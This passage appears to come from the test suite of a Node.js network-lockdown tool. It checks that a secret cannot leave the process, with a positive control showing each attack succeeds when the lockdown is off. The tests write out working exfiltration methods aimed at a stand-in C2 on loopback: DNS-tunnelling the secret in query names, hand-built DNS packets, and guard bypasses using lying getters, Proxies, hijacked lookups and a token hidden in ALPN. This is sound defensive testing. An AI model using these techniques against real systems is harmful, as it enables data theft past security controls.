        return String(channel.queryA!(request, name));
      } catch (error) {
        return (error as NodeJS.ErrnoException).code ?? String(error);
      } finally {
        await settle(300);
        resolver.cancel();
      }
    };
    try {
      assert.equal(await underLockdown(lab.policy, [], attack), 'ERR_HOST_NOT_ALLOWED');
      assert.equal(queries.filter((query) => query.toString('latin1').includes(name.slice(0, 40))).length, 0);
      await attack();
      assert.ok(queries.some((query) => query.toString('latin1').includes(name.slice(0, 40))), `${queries.length} queries`);
    } finally {
      server.close();
    }
  });

  test('dgram (a hand-made DNS query with the secret in its name) to an unlisted address, by send() and by connect(): refused, 0 datagrams; a listed address works; positive control', async () => {
    const attacker = dgram.createSocket('udp4');
    const listed = dgram.createSocket('udp4');
    const received: string[] = [];
    attacker.on('message', (message) => received.push(message.toString('latin1')));
    listed.on('message', (message) => received.push(`listed:${message.toString('latin1')}`));
    await Promise.all([new Promise<void>((resolve) => attacker.bind(0, '127.0.0.2', resolve)), new Promise<void>((resolve) => listed.bind(0, '127.0.0.1', resolve))]);
    // A DNS query packet for <hex secret>.exfil.test, as malware builds it by hand.
    const label = Buffer.from(SECRET).toString('hex');
    const packet = Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, label.length]), Buffer.from(label), Buffer.from([5]), Buffer.from('exfil'), Buffer.from([4]), Buffer.from('test'), Buffer.from([0, 0, 1, 0, 1])]);
    const send = (port: number, host: string): Promise<string> =>
      new Promise((resolve) => {
        const socket = dgram.createSocket('udp4');
        socket.send(packet, port, host, (error) => {
          socket.close();
          resolve((error as NodeJS.ErrnoException | null)?.code ?? 'sent');
        });
      });
    const connected = (port: number, host: string): Promise<string> =>
      new Promise((resolve) => {
        const socket = dgram.createSocket('udp4');
        socket.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
        // A failed connect calls back with the error (Node emits 'connect' with it).
        socket.connect(port, host, ((error?: NodeJS.ErrnoException) => {
          if (error) {
            socket.close();
            resolve(error.code ?? error.message);
            return;
          }
          socket.send(packet, (sendError) => {
            socket.close();
            resolve((sendError as NodeJS.ErrnoException | null)?.code ?? 'sent');
          });
        }) as () => void);
      });
    try {
      const outcomes = await underLockdown(lab.policy, [], async (handle) => {
        const result = [await send(attacker.address().port, '127.0.0.2'), await connected(attacker.address().port, '127.0.0.2'), await send(listed.address().port, '127.0.0.1')];
        assert.equal(handle.blockingFinding(), undefined, 'a refused datagram is a policy violation, not tampering');
        return result;
      });
      assert.deepEqual(outcomes, ['EACCES', 'EACCES', 'sent']);
      await settle(100);
      assert.deepEqual(received.filter((text) => !text.startsWith('listed:')), []);
      assert.equal(await send(attacker.address().port, '127.0.0.2'), 'sent');
      await settle(100);
      assert.ok(received.some((text) => text.includes(label)));
    } finally {
      attacker.close();
      listed.close();
    }
  });

  test('every dns resolving method of this Node (resolveTlsa on 24 too, dns/promises, Resolver) refuses an unlisted name: 0 queries reach the name server', async () => {
    const server = dgram.createSocket('udp4');
    const queries: Buffer[] = [];
    server.on('message', (message) => queries.push(message));
    await new Promise<void>((resolve) => server.bind(0, '127.0.0.2', resolve));
    const name = `${Buffer.from(SECRET).toString('hex')}.exfil.test`;
    const resolvers = (): Array<[string, Promise<unknown>]> => {
      const callbackResolver = new dns.Resolver({ timeout: 200, tries: 1 });
      const promiseResolver = new dns.promises.Resolver({ timeout: 200, tries: 1 });
      callbackResolver.setServers([`127.0.0.2:${server.address().port}`]);
      promiseResolver.setServers([`127.0.0.2:${server.address().port}`]);
      const methods = Object.getOwnPropertyNames(dns.promises.Resolver.prototype).filter((key) => key.startsWith('resolve'));
      return methods.flatMap((method): Array<[string, Promise<unknown>]> => [
        [`promises.Resolver#${method}`, (promiseResolver as unknown as Record<string, (n: string) => Promise<unknown>>)[method]!(name)],
        [
          `Resolver#${method}`,
          new Promise((resolve, reject) => (callbackResolver as unknown as Record<string, (n: string, cb: (e: Error | null) => void) => void>)[method]!(name, (error) => (error ? reject(error) : resolve(undefined)))),
        ],
      ]);
    };
    try {
      const refused = await underLockdown(lab.policy, [], async () => Promise.all(resolvers().map(async ([label, promise]) => [label, await outcome(promise)] as const)));
      for (const [label, code] of refused) assert.equal(code, 'ERR_HOST_NOT_ALLOWED', label);
      assert.ok(refused.length >= 26, `${refused.length} methods`);
      await settle(100);
      assert.equal(queries.length, 0);
      // Positive control: unprotected, the name server receives the secret in the query names.
      await Promise.all(resolvers().map(([, promise]) => outcome(promise)));
      assert.ok(queries.some((query) => query.toString('latin1').includes(name.slice(0, 40))));
    } finally {
      server.close();
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Class 3: the guard checks a snapshot that is then exactly what Node receives, and the address
// actually dialled, not only the name.

describe('class 3: checks hold against objects that change after the check', { concurrency: false }, () => {
  const policy = (): Record<string, unknown> => ({ ...lab.policy, cleartext: 'allow-loopback', domains: { '127.0.0.1': {}, 'listed.wirelock.test': {}, localhost: {} } });
  /** Answers the listed host to wirelock's check and the C2 to Node's own read. */
  const lyingHost = (): string => {
    // The frame that reads the property: Node's net module, or anything else (wirelock's check).
    const reader = (new Error().stack?.split('\n').slice(1) ?? []).find((line) => !line.includes('bypass.test') && !line.includes('new Promise') && !line.includes('<anonymous>'));
    return reader?.includes('node:net') ? '127.0.0.2' : '127.0.0.1';
  };
  const toC2 = (hostname: string, options: { all?: boolean } | undefined, callback: (...args: unknown[]) => void): void =>
    options?.all ? callback(null, [{ address: '127.0.0.2', family: 4 }]) : callback(null, '127.0.0.2', 4);

  function send(open: () => net.Socket): Promise<string> {
    return new Promise((resolve) => {
      let socket: net.Socket;
      try {
        socket = open();
      } catch (error) {
        resolve((error as NodeJS.ErrnoException).code ?? String(error));
        return;
      }
      socket.resume();
      socket.on('connect', () => socket.end(SECRET));
      socket.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
      socket.on('close', () => resolve('sent'));
    });
  }

  const ATTACKS: Array<[string, () => Promise<string>]> = [
    [
      'net.connect with a host getter that answers the check and Node differently',
      () => send(() => net.connect({ get host() { return lyingHost(); }, port: lab.c2.port } as net.NetConnectOpts)),
    ],
    [
      'net.connect with options behind a Proxy (get trap answers per caller)',
      () => send(() => net.connect(new Proxy({ port: lab.c2.port } as Record<string, unknown>, { get: (target, key) => (key === 'host' ? lyingHost() : target[key as string]) }) as unknown as net.NetConnectOpts)),
    ],
    [
      'net.connect to a listed name with a caller lookup answering the C2 address',
      () => send(() => net.connect({ host: 'listed.wirelock.test', port: lab.c2.port, lookup: toC2 as unknown as net.LookupFunction })),
    ],
    [
      'net.connect to a listed name after dns.lookup was replaced (no lookup option)',
      async () => {
        const restore = saved(dns, 'lookup');
        (dns as unknown as Record<string, unknown>).lookup = toC2;
        try {
          return await send(() => net.connect({ host: 'listed.wirelock.test', port: lab.c2.port }));
        } finally {
          restore();
        }
      },
    ],
    [
      'tls.connect to a listed name with a lookup answering the C2, token in ALPN',
      () => send(() => tls.connect({ host: 'listed.wirelock.test', servername: 'listed.wirelock.test', port: lab.c2.port, lookup: toC2 as unknown as net.LookupFunction, ALPNProtocols: [SECRET] })),
    ],
    [
      'cleartext http.request to "localhost" (allowed as loopback) with a lookup answering the C2',
      () =>
        new Promise((resolve) => {
          const request = http.request({ host: 'localhost', port: lab.c2.port, method: 'POST', lookup: toC2 as unknown as net.LookupFunction }, () => resolve('sent'));
          request.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
          request.end(SECRET);
          setTimeout(() => resolve('sent'), 400);
        }),
    ],
  ];

  for (const [name, attack] of ATTACKS) {
    test(`${name}: refused, the C2 receives 0 bytes; positive control without lockdown`, async () => {
      lab.reset();
      const refused = await underLockdown(policy(), [], attack);
      assert.notEqual(refused, 'sent');
      await settle(100);
      assert.equal(lab.c2.connections, 0, `the C2 got ${lab.c2.captured}`);
      lab.reset();
      await attack();
      await settle(100);
      assert.ok(lab.c2.captured.includes(SECRET), `positive control: the C2 got ${lab.c2.applicationBytes} bytes`);
    });
  }

  test('the legitimate paths still work under lockdown: a listed name whose lookup agrees with the system resolver, and a plain https request', async () => {
    lab.reset();
    await underLockdown({ ...policy(), domains: { '127.0.0.1': {}, localhost: {} } }, [], async () => {
      const viaLocalhost = await send(() => net.connect({ host: 'localhost', port: lab.origin.port, family: 4, lookup: ((name: string, options: { all?: boolean }, callback: (...args: unknown[]) => void) => dns.lookup(name, options as dns.LookupOptions, callback as never)) as unknown as net.LookupFunction }));
      assert.equal(viaLocalhost, 'sent');
      const response = await fetch(lab.origin.url('127.0.0.1', '/api'), { method: 'POST', body: SECRET });
      assert.equal(response.status, 200);
    });
    assert.ok(lab.origin.requests.some((request) => request.body === SECRET));
  });
});
